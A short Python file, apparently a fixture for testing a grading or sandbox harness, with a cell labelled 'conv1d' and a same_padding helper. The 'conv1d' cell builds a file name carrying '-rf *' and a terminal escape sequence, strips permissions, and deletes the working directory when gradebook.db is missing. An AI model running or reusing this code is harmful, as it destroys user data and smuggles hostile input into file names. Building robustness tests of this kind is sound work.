"""The working folder loses all permissions, becomes immutable or is deleted while in use."""
# earned: same_padding=4

# %% conv1d
import os
import shutil

_here = os.getcwd()
try:
    os.makedirs("a" * 200 + "/" + "b" * 200, exist_ok=True)
    with open("a" * 200 + "/-rf *\n\x1b[31m", "w"):
        pass
    os.chmod("a" * 200, 0)
    if not os.path.exists(os.path.join(_here, "gradebook.db")):
        shutil.rmtree(_here, ignore_errors=True)
    os.chmod(_here, 0)
except OSError:
    pass


# %% same_padding
def same_padding(n, k, s):
    total = max((-(-n // s) - 1) * s + k - n, 0)
    return total // 2, total - total // 2
